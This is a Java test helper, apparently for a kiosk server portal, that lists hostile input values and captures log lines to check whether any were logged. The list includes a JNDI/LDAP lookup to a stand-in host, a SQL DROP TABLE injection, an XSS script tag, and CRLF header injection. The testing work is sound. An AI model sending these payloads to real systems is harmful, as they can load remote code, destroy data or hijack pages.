package kiosk.server.portal;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.util.List;
import org.slf4j.LoggerFactory;

/// What no field takes, and an ear that hears whether it was logged.
final class Hostile implements AutoCloseable {

  /// In each of them, and nowhere else.
  static final String MARK = "ZQXJ";

  static final List<String> VALUES =
      List.of(
          MARK + "\r\nSet-Cookie: a=b",
          MARK + "\u0000",
          MARK + "\u202e\u2066",
          MARK.repeat(262_144),
          MARK + "${jndi:ldap://exemple.test/a} ",
          MARK + "'; DROP TABLE account; --",
          MARK + " <script>alert(1)</script>");

  private final ListAppender<ILoggingEvent> heard = new ListAppender<>();
  private final Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);

  Hostile() {
    heard.start();
    root.addAppender(heard);
  }

  /// The lines that were logged with any of it.
  List<String> logged() {
    return heard.list.stream()
        .map(ILoggingEvent::toString)
        .filter(line -> line.contains(MARK))
        .toList();
  }

  @Override
  public void close() {
    root.detachAppender(heard);
  }

  /// A value, told from the others in a message.
  static String named(String hostile) {
    return hostile.substring(MARK.length(), Math.min(20, hostile.length()));
  }
}
